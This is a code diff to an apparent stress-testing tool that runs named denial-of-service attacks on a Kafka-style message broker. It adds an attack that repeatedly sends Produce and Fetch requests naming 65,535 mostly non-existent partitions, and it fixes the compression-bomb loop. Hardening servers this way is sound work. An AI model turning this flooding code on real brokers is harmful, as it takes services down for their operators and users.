@@ -11,7 +11,8 @@ const BOMB_BYTES = 256 << 20;
 const run = { 'slow-loris': slowLoris, 'announced-frames': announcedFrames };
 const more = { 'absurd-frames': absurdFrames, 'never-reading': neverReading };
 const last = { 'compression-bombs': compressionBombs, 'oversized-requests': oversizedRequests };
-const attack = { ...run, ...more, ...last }[name];
+const newest = { 'named-often': namedOften };
+const attack = { ...run, ...more, ...last, ...newest }[name];
 if (attack === undefined) throw new Error(`no such attack: ${name}`);
 let acts = 0;
 attack();
@@ -136,6 +137,38 @@ function compressionBombs(): void {
       socket.write(bomb);
     };
     socket.on('data', again);
+    again();
+  }
+}
+
+/** One partition, and many that are not there, as often as a request may name partitions. */
+function namedOften(): void {
+  const count = 65_535;
+  const bodies = [() => 0, (i: number) => i].flatMap((indexOf) => {
+    const partitionData = Array.from({ length: count }, (_, i) => ({ index: indexOf(i) }));
+    const partitions = Array.from({ length: count }, (_, i) => {
+      return { partition: indexOf(i), fetchOffset: 0n, partitionMaxBytes: 1 };
+    });
+    const topicData = [{ name: 'bait', partitionData }];
+    const topics = [{ topic: 'bait', partitions }];
+    return [
+      framed(encodeRequest(Produce, 9, { acks: 1, timeoutMs: 5000, topicData }, 1)),
+      framed(encodeRequest(Fetch, 12, { ...fetchBody('', new Map()), topics }, 1)),
+    ];
+  });
+  for (const body of bodies) {
+    const socket = open();
+    let [got, expected] = [0, 0];
+    const again = () => {
+      acts += 1;
+      [got, expected] = [0, 0];
+      socket.write(body);
+    };
+    socket.on('data', (data) => {
+      if (got === 0) expected = 4 + data.readInt32BE(0);
+      got += data.length;
+      if (got >= expected) again();
+    });
     again();
   }
 }
